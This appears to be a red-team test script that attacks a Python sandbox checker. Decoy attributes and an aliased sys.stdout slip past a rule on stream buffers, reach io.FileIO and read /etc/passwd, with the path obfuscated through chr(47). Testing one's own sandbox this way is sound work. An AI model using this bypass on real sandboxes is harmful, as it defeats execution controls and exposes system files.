# source: black-box attack on sandexec check (attack12, 2026-11-26), family: 4 private-name decoy (stream buffer/raw)
# source: own; README: a stream's buffer/raw/detach() lead to io.FileIO and "are refused on any object but the script's own (self.buffer = [] is fine)"
# family: decoy: the script defines .buffer/.raw on its own class, then reads them on sys.stdout through an alias
# goal: io.FileIO class from sys.stdout.buffer.raw -> open /etc/passwd
import json
import sys


class Order:
    def __init__(self):
        self.buffer = []
        self.raw = None


out = sys.stdout
fio = type(out.buffer.raw)
fh = fio(chr(47) + "etc" + chr(47) + "passwd")
print(json.dumps({"cls": repr(fio), "evidence": fh.read()[:80].decode()}))
